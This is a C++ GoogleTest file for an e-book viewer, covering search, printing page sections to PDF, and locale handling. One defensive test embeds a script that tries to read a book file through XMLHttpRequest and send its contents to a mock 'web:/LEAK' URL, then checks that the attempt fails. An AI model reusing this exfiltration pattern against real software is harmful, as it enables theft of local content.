// Search and printing on the real engine: the search window over a story, and print sections
// printed to a PDF file that poppler's tools read back.
#include <gtest/gtest.h>

#include <QComboBox>
#include <QMenu>
#include <QPrintPreviewDialog>
#include <QPrintPreviewWidget>
#include <QPrinter>
#include <QPushButton>
#include <QToolButton>
#include <QTreeWidget>
#include <QBuffer>
#include <QWebEngineFindTextResult>
#include <QWebEngineProfile>
#include <QWebEngineSettings>
#include <QWebEngineUrlRequestJob>
#include <QWebEngineUrlSchemeHandler>

#include <filesystem>

#include "frm_Print.h"
#include "frm_Search.h"
#include "mfs/cab_test_util.h"
#include "u_BookText.h"
#include "u_DataBlocks.h"
#include "viewer/viewer_test_util.h"

namespace fs = std::filesystem;

using namespace gui_test;
using namespace viewer_test;

namespace {

QStringList Rows(TfrmSearch& w) {
  QStringList rows;
  for (int i = 0; i < w.lvFoundPages()->topLevelItemCount(); ++i) rows << w.lvFoundPages()->topLevelItem(i)->text(0);
  return rows;
}

QStringList History(TfrmSearch& w) {
  QStringList items;
  for (int i = 0; i < w.cbSearchText()->count(); ++i) items << w.cbSearchText()->itemText(i);
  return items;
}

QStringList Search(TfrmSearch& w, const QString& text) {
  w.cbSearchText()->setEditText(text);
  w.btnSearch()->click();
  return Rows(w);
}

const char* const SearchToolbar = "<T><Buttons><b Kind=12 Caption=\"Search\"/><b Kind=5 Caption=\"Next\"/></Buttons></T>";

TEST_F(ViewerFixture, SearchFindsPagesShowsAHitAndKeepsTheStoryInStep) {
  Open({{"\\System.xml", "<System Story=\"s.xml\" ToolButtons=\"tb.xml\"/>"},
        {"\\tb.xml", SearchToolbar},
        {"\\s.xml",
         "<S><i page=\"\\a.htm\" pagename=\"Alpha\"/><i page=\"\\b.htm\" pagename=\"Bravo\"/>"
         "<i page=\"\\c.htm\" pagename=\"Charlie\"/><i page=\"\\d.htm\" pagename=\"Delta\" searchable=\"false\"/>"
         "<i page=\"\\e.htm\" pagename=\"Echo\"/><i page=\"\\f.htm\" pagename=\"Foxtrot\"/>"
         "<i page=\"\\g.htm\" pagename=\"Golf\"/><i page=\"\\gone.htm\" pagename=\"Gone\"/></S>"}},
       {{"\\a.htm", Page(1, "<p>The River bends.</p>")},
        {"\\b.htm", Page(2, "<p title=\"river>\">two RIVERS meet</p>")},
        {"\\c.htm", Page(3, "<p><b>deep</b>water and Tom &amp; Jerry</p>")},
        {"\\d.htm", Page(4, "<p>a river hidden from search</p>")},
        {"\\e.htm", Page(5, "<p>nothing here</p>")},
        {"\\f.htm", Page(6, "<p>a riverside walk</p>")},
        {"\\g.htm", Page(7)}});
  TStory& story = Form->Story();
  bool searched = WhenShown<TfrmSearch>([&] { Button(0)->click(); }, [&](TfrmSearch& w) {
    EXPECT_EQ(w.windowTitle(), "Search");
    EXPECT_EQ(w.size(), QSize(392, 216));
    EXPECT_TRUE(w.btnSearch()->isDefault());
    // Matches ignore letter case and markup inside tags; the rows come in story order, and a
    // page missing from the book ends the scan with its message, the rows found staying.
    EXPECT_EQ(Search(w, "river"), (QStringList{"Alpha", "Bravo", "Foxtrot"}));
    EXPECT_EQ(Messages, QStringList{"File \"\\gone.htm\" not found"});
    EXPECT_EQ(w.lvFoundPages()->topLevelItem(0)->text(1), "\\a.htm");
    EXPECT_TRUE(w.lvFoundPages()->isColumnHidden(1));
    EXPECT_EQ(Search(w, "RIVER"), (QStringList{"Alpha", "Bravo", "Foxtrot"}));
    // Tags become blanks: words joined only by markup are found with a blank between them.
    EXPECT_EQ(Search(w, "deep water"), QStringList{"Charlie"});
    EXPECT_EQ(Search(w, "deepwater"), QStringList{});
    // Character references stay as written.
    EXPECT_EQ(Search(w, "Tom &amp; Jerry"), QStringList{"Charlie"});
    EXPECT_EQ(Search(w, "Tom & Jerry"), QStringList{});
    EXPECT_EQ(Search(w, ""), QStringList{});
    EXPECT_EQ(Search(w, ""), QStringList{});
    EXPECT_EQ(History(w), (QStringList{"river", "deep water", "deepwater", "Tom &amp; Jerry", "Tom & Jerry", ""}));

    // Show: the story moves to the hit, the page loads with the text highlighted, and the
    // window stays open.
    EXPECT_EQ(Search(w, "riverside"), QStringList{"Foxtrot"});
    int matches = -1;
    auto c = QObject::connect(Form->webMain()->page(), &QWebEnginePage::findTextFinished,
                              [&](const QWebEngineFindTextResult& r) { matches = r.numberOfMatches(); });
    w.lvFoundPages()->topLevelItem(0)->setSelected(true);
    w.btnShowPage()->click();
    EXPECT_TRUE(WaitFor([&] { return Shown() == "Page 6" && matches >= 0; }));
    QObject::disconnect(c);
    EXPECT_EQ(matches, 1);
    EXPECT_EQ(story.CurrentPage(), "\\f.htm");
    EXPECT_TRUE(w.isVisible());
    // A search leaves the story's cursor at its end; the page shown is what Next goes on from.
    Search(w, "river");
  });
  ASSERT_TRUE(searched);
  EXPECT_TRUE(Loads([&] { Button(1)->click(); }, "Page 7"));
  EXPECT_EQ(story.CurrentPage(), "\\g.htm");
}

TEST_F(ViewerFixture, PrintSectionsAreListedAndPrintedAlone) {
  Open({{"\\System.xml", "<System Story=\"s.xml\" ToolButtons=\"tb.xml\"/>"},
        {"\\tb.xml", "<T><Buttons><b Kind=14 Caption=\"Print\"/><b Kind=5 Caption=\"Next\"/></Buttons></T>"},
        {"\\s.xml", "<S><i page=\"\\a.htm\"/><i page=\"\\b.htm\"/></S>"}},
       {{"\\a.htm", Page(1, "<div id=\"introPAGE\"><h1>Section words</h1><h2>caf\xE9 cr\xE8me \x80uro</h2><img src=\"pics/p.png\"></div>"
                            "<div id=\"pager\">pager words</div><span id=\"notesPAGE\">span words</span>"
                            "<div id=\"summarypage\">summary words</div><div id=\"PAGE\">bare</div>"
                            "<p>rest of the page</p><img src=\"pics/q.png\">")},
        {"\\b.htm", Page(2)},
        {"\\pics\\p.png", Png(40, 30)},
        {"\\pics\\q.png", Png(50, 20)}});
  QToolButton* print = Form->Toolbar().PrintButton();
  ASSERT_TRUE(WaitFor([&] { return print->menu() != nullptr; }));
  QStringList items;
  for (QAction* a : print->menu()->actions()) items << a->text() + "|" + a->toolTip();
  EXPECT_EQ(items, (QStringList{"introPAGE|introPAGE", "summarypage|summarypage", "PAGE|PAGE"}));

  // The section alone, its picture from the book, printed to a file without a dialog.
  cab_test::TTempDir dir;
  const std::string pdf = (dir.Path() / "section.pdf").string();
  SetPrinterSetup([&](QPrinter& p) {
    p.setOutputFormat(QPrinter::PdfFormat);
    p.setOutputFileName(QString::fromStdString(pdf));
  });
  bool shown = WhenShown<TfrmPrint>([&] { print->menu()->actions().at(0)->trigger(); }, [&](TfrmPrint& w) {
    EXPECT_EQ(w.windowTitle(), "Print page");
    EXPECT_TRUE(WaitFor([&] { return Eval(*w.webPrint(), "document.images.length && document.images[0].naturalWidth").toInt() == 40; }));
    w.tbtnPrint()->click();
    EXPECT_TRUE(Messages.isEmpty()) << Messages.join("; ").toStdString();
    // Escape closes the print window only.
    w.activateWindow();
    EXPECT_TRUE(WaitFor([&] { return QApplication::activeWindow() == &w; }));
    Key(Qt::Key_Escape);
    EXPECT_TRUE(WaitFor([&] { return !w.isVisible(); }));
  });
  SetPrinterSetup(nullptr);
  ASSERT_TRUE(shown);
  EXPECT_TRUE(Form->isVisible());
  std::string text, images;
  ASSERT_EQ(cab_test::Shell("pdftotext " + cab_test::Quote(pdf) + " -", &text), 0) << text;
  EXPECT_NE(text.find("Section words"), std::string::npos) << text;
  EXPECT_NE(text.find("caf\xC3\xA9 cr\xC3\xA8me \xE2\x82\xACuro"), std::string::npos) << text;  // Windows-1252 letters, whole
  EXPECT_EQ(text.find("rest of the page"), std::string::npos) << text;
  EXPECT_EQ(text.find("summary words"), std::string::npos) << text;
  ASSERT_EQ(cab_test::Shell("pdfimages -list " + cab_test::Quote(pdf), &images), 0) << images;
  // A header line, a rule, then one line per picture: only the section's 40×30.
  QStringList lines = QString::fromStdString(images).split('\n', Qt::SkipEmptyParts);
  ASSERT_EQ(lines.size(), 3) << images;
  EXPECT_TRUE(lines[2].simplified().split(' ').mid(3, 2) == (QStringList{"40", "30"})) << images;

  // A section that went away since the menu was made.
  Run("document.getElementById('summarypage').remove()");
  print->menu()->actions().at(1)->trigger();
  EXPECT_TRUE(WaitFor([&] { return !Messages.isEmpty(); }));
  EXPECT_EQ(Messages, QStringList{"Can not find page"});

  // The button itself previews the whole page.
  bool previewed = WhenShown<QPrintPreviewDialog>([&] { print->click(); }, [&](QPrintPreviewDialog& d) {
    auto* preview = d.findChild<QPrintPreviewWidget*>();
    ASSERT_NE(preview, nullptr);
    EXPECT_TRUE(WaitFor([&] { return preview->pageCount() >= 1; }));
    EXPECT_LE(d.printer()->resolution(), 600);  // a printer gets pictures of at most 600 dpi
    // Printed from the preview to a PDF file, as the print dialog's "Print to File (PDF)" does:
    // the engine's own PDF, with text as text and the page set-up's margins.
    d.printer()->setOutputFormat(QPrinter::PdfFormat);
    d.printer()->setOutputFileName(QString::fromStdString((dir.Path() / "page.pdf").string()));
    d.printer()->setPageMargins(QMarginsF(30, 30, 30, 30), QPageLayout::Millimeter);
    preview->print();
  });
  EXPECT_TRUE(previewed);
  std::string pageText, pageImages, box;
  ASSERT_EQ(cab_test::Shell("pdftotext " + cab_test::Quote(dir.Path() / "page.pdf") + " -", &pageText), 0) << pageText;
  EXPECT_NE(pageText.find("rest of the page"), std::string::npos) << pageText;
  EXPECT_NE(pageText.find("Section words"), std::string::npos) << pageText;
  ASSERT_EQ(cab_test::Shell("pdfimages -list " + cab_test::Quote(dir.Path() / "page.pdf"), &pageImages), 0) << pageImages;
  // The page's two pictures, not a picture of the sheet.
  EXPECT_EQ(QString::fromStdString(pageImages).split('\n', Qt::SkipEmptyParts).size(), 4) << pageImages;
  EXPECT_LT(std::filesystem::file_size(dir.Path() / "page.pdf"), 200000u);
  // 30 mm margins: the text starts well inside the sheet (pdftotext -bbox gives its place).
  ASSERT_EQ(cab_test::Shell("pdftotext -bbox " + cab_test::Quote(dir.Path() / "page.pdf") + " - | grep -m1 '<word'", &box), 0) << box;
  const QString word = QString::fromStdString(box);
  const double xMin = word.section("xMin=\"", 1).section('"', 0, 0).toDouble();
  EXPECT_GT(xMin, 80.0) << box;  // 30 mm is 85 points

  // A page without sections leaves the button plain.
  EXPECT_TRUE(Loads([&] { Button(1)->click(); }, "Page 2"));
  EXPECT_TRUE(WaitFor([&] { return print->menu() == nullptr; }));
}

// A web site the main browser can be led to: serves one page and records every request.
class WebSite : public QWebEngineUrlSchemeHandler {
public:
  QByteArray Page;
  QStringList Asked;
  void requestStarted(QWebEngineUrlRequestJob* job) override {
    Asked << job->requestUrl().toString(QUrl::FullyEncoded);
    auto* body = new QBuffer(job);
    body->setData(job->requestUrl().path() == QLatin1String("/page.htm") ? Page : QByteArray());
    body->open(QIODevice::ReadOnly);
    job->reply(job->requestUrl().path().endsWith(QLatin1String(".htm")) ? "text/html" : "image/png", body);
  }
  int Count(const QString& prefix) const {
    return static_cast<int>(std::count_if(Asked.begin(), Asked.end(), [&](const QString& u) { return u.startsWith(prefix); }));
  }
};

// A web page's print section is the web's content: printed, it must not run as the book and
// read the book's files. The section's script tries, and would send what it read back.
TEST_F(ViewerFixture, AWebPagesPrintSectionCannotReadTheBook) {
  WebSite site;
  site.Page = "<html><body><div id=\"leakPAGE\"><p id=t>web section</p><script>"
              "try { var x = new XMLHttpRequest(); x.open('GET', 'mfs:/a.htm', false); x.send();"
              " document.write('<img src=\"web:/LEAK?' + encodeURIComponent(x.responseText) + '\">'); }"
              " catch (e) { document.write('<img src=\"web:/refused.png\">'); }"
              "</script><img src=\"web:/probe.png\"></div></body></html>";
  QWebEngineProfile::defaultProfile()->installUrlSchemeHandler("web", &site);
  Open({{"\\System.xml", "<System Story=\"s.xml\" ToolButtons=\"tb.xml\"/>"},
        {"\\tb.xml", "<T><Buttons><b Kind=14 Caption=\"Print\"/></Buttons></T>"},
        {"\\s.xml", "<S><i page=\"\\a.htm\"/></S>"}},
       {{"\\a.htm", Page(1, "secret words")}});
  QToolButton* print = Form->Toolbar().PrintButton();
  ASSERT_TRUE(Loads([&] { Form->webMain()->Navigate(QUrl("web:/page.htm")); }, "web section"));
  ASSERT_TRUE(WaitFor([&] { return print->menu() != nullptr && !print->menu()->actions().isEmpty(); }));
  EXPECT_TRUE(WaitFor([&] { return site.Count("web:/probe.png") == 1; }));  // the web page itself: refused by the book
  bool shown = WhenShown<TfrmPrint>([&] { print->menu()->actions().at(0)->trigger(); }, [&](TfrmPrint& w) {
    EXPECT_TRUE(WaitFor([&] { return site.Count("web:/probe.png") == 2; }));  // the section, parsed past its script
    EXPECT_FALSE(w.webPrint()->settings()->testAttribute(QWebEngineSettings::JavascriptEnabled));
  });
  QWebEngineProfile::defaultProfile()->removeUrlSchemeHandler(&site);
  ASSERT_TRUE(shown);
  EXPECT_EQ(site.Count("web:/LEAK"), 0) << site.Asked.join(" ").toStdString();
}

}  // namespace

namespace {

// A book written the way editors write today: description files, pages and file names in UTF-8,
// in German, Russian and Greek. Packed without options, it records UTF-8; readers whose locales
// have other code pages (Western, Cyrillic, none) follow every link, see every name and get
// every search hit the same.
TEST_F(ViewerFixture, AUtf8BookReadsTheSameInEveryLocale) {
  cab_test::TTempDir dir;
  const fs::path sys = dir.Path() / "system", content = dir.Path() / "content";
  const std::string de = "k\xC3\xB6nigin", ru = "\xD1\x86\xD0\xB0\xD1\x80\xD0\xB8\xD1\x86\xD0\xB0",
                    el = "\xCE\xB2\xCE\xB1\xCF\x83\xCE\xAF\xCE\xBB\xCE\xB9\xCF\x83\xCF\x83\xCE\xB1";
  cab_test::WriteFile(sys / "System.xml", "<System MainFormCaption=\"\xD0\xA6\xD0\xB0\xD1\x80\xD0\xB8\xD1\x86\xD0\xB0\" Story=\"Story.xml\" "
                                          "ToolButtons=\"tb.xml\"/>");
  cab_test::WriteFile(sys / "tb.xml", SearchToolbar);
  cab_test::WriteFile(sys / "Story.xml", "<Story><item page=\"\\" + de + ".htm\" pagename=\"K\xC3\xB6nigin\"/><item page=\"\\" + ru +
                                             ".htm\" pagename=\"\xD0\xA6\xD0\xB0\xD1\x80\xD0\xB8\xD1\x86\xD0\xB0\"/><item page=\"\\" + el +
                                             ".htm\" pagename=\"\xCE\x92\xCE\xB1\xCF\x83\xCE\xAF\xCE\xBB\xCE\xB9\xCF\x83\xCF\x83\xCE\xB1\"/></Story>");
  const std::string head = "<html><head><meta charset=\"utf-8\"></head><body>";
  cab_test::WriteFile(content / (de + ".htm"), head + "<p id=t>" + de + "</p><p>Die K\xC3\xB6nigin wohnt in der Stra\xC3\x9F" "e.</p>"
                                                   "<a id=ru href=\"" + ru + ".htm\">ru</a> <a id=el href=\"" + el + ".htm\">el</a>"
                                                   "<img id=img src=\"bilder/stra\xC3\x9F" "e.png\"></body></html>");
  cab_test::WriteFile(content / (ru + ".htm"), head + "<p id=t>" + ru + "</p><p>\xD0\xA6\xD0\xB0\xD1\x80\xD0\xB8\xD1\x86\xD0\xB0 "
                                                   "\xD0\x9C\xD0\xB8\xD1\x80\xD0\xB0</p><a id=de href=\"" + de + ".htm\">de</a></body></html>");
  cab_test::WriteFile(content / (el + ".htm"), head + "<p id=t>" + el + "</p><p>\xCE\x97 \xCE\xB2\xCE\xB1\xCF\x83\xCE\xAF\xCE\xBB\xCE\xB9"
                                                   "\xCF\x83\xCF\x83\xCE\xB1 \xCE\xA3\xCE\xBF\xCF\x86\xCE\xAF\xCE\xB1</p></body></html>");
  cab_test::WriteFile(content / "bilder" / "stra\xC3\x9F" "e.png", Png(6, 4));
  const fs::path book = dir.Path() / "book";
  std::string out;
  ASSERT_EQ(cab_test::Shell("LC_ALL=C " + cab_test::Quote(QUIRELLE_PACK) + " --viewer " + cab_test::Quote(QUIRELLE_VIEWER) + " --system " +
                                cab_test::Quote(sys) + " --content " + cab_test::Quote(content) + " -o " + cab_test::Quote(book), &out), 0)
      << out;
  EXPECT_EQ(out, "0 errors, 0 notes\n");

  for (const auto& [locale, codePage] : {std::pair{"de_DE.UTF-8", 1252}, std::pair{"ru_RU.UTF-8", 1251}, std::pair{"C", 1252}}) {
    SCOPED_TRACE(locale);
    // The packed book as its own program: caption and first page.
    ASSERT_EQ(cab_test::Shell(std::string("LC_ALL=") + locale + " QUIRELLE_CHECK=1 QTWEBENGINE_DISABLE_SANDBOX=1 " + cab_test::Quote(book), &out), 0)
        << out;
    EXPECT_NE(out.find("caption=\xD0\xA6\xD0\xB0\xD1\x80\xD0\xB8\xD1\x86\xD0\xB0\n"), std::string::npos) << out;
    EXPECT_NE(out.find("page=\\" + de + ".htm\n"), std::string::npos) << out;
    // The same book read straight from its folders, as the author previews it.
    ASSERT_EQ(cab_test::Shell(std::string("LC_ALL=") + locale + " QUIRELLE_CHECK=1 QTWEBENGINE_DISABLE_SANDBOX=1 " +
                                  cab_test::Quote(QUIRELLE_VIEWER) + " --system " + cab_test::Quote(sys) + " --content " + cab_test::Quote(content),
                              &out),
              0)
        << out;
    EXPECT_NE(out.find("caption=\xD0\xA6\xD0\xB0\xD1\x80\xD0\xB8\xD1\x86\xD0\xB0\npage=\\" + de + ".htm\n"), std::string::npos) << out;
    // The same book in this process, with the code page that locale gives.
    Form.reset();
    SetBookCodePage(codePage);
    Form = std::make_unique<TfrmMain>(TBookSource{ReadDataBlock(book.string(), "RCDATA", "SYSTEM_MFS"), ReadDataBlock(book.string(), "RCDATA", "FILES_MFS")});
    ASSERT_FALSE(Form->CreateFailed()) << Messages.join("; ").toStdString();
    ASSERT_TRUE(Loads([&] { Form->show(); }, QString::fromUtf8(de)));
    EXPECT_EQ(FromBook(Form->Story().PageName()), QString::fromUtf8("K\xC3\xB6nigin"));
    EXPECT_TRUE(WaitFor([&] { return Run("document.getElementById('img').naturalWidth") == "6"; }));
    EXPECT_TRUE(Loads([&] { Run("document.getElementById('ru').click()"); }, QString::fromUtf8(ru)));
    EXPECT_EQ(FromBook(Form->Story().PageName()), QString::fromUtf8("\xD0\xA6\xD0\xB0\xD1\x80\xD0\xB8\xD1\x86\xD0\xB0"));
    EXPECT_TRUE(Loads([&] { Run("document.getElementById('de').click()"); }, QString::fromUtf8(de)));
    EXPECT_TRUE(Loads([&] { Run("document.getElementById('el').click()"); }, QString::fromUtf8(el)));
    bool searched = WhenShown<TfrmSearch>([&] { Button(0)->click(); }, [&](TfrmSearch& w) {
      EXPECT_EQ(Search(w, QString::fromUtf8("K\xC3\x96NIGIN")), QStringList{QString::fromUtf8("K\xC3\xB6nigin")});
      EXPECT_EQ(Search(w, "STRASSE"), QStringList{QString::fromUtf8("K\xC3\xB6nigin")});
      EXPECT_EQ(Search(w, QString::fromUtf8("\xD1\x86\xD0\xB0\xD1\x80\xD0\xB8\xD1\x86\xD0\xB0 \xD0\xBC\xD0\xB8\xD1\x80\xD0\xB0")),
                QStringList{QString::fromUtf8("\xD0\xA6\xD0\xB0\xD1\x80\xD0\xB8\xD1\x86\xD0\xB0")});
      EXPECT_EQ(Search(w, QString::fromUtf8("\xCE\xA3\xCE\x9F\xCE\xA6\xCE\x8A\xCE\x91")),  // ΣΟΦΊΑ
                QStringList{QString::fromUtf8("\xCE\x92\xCE\xB1\xCF\x83\xCE\xAF\xCE\xBB\xCE\xB9\xCF\x83\xCF\x83\xCE\xB1")});
    });
    EXPECT_TRUE(searched);
    EXPECT_TRUE(Messages.isEmpty()) << Messages.join("; ").toStdString();
  }
}

}  // namespace
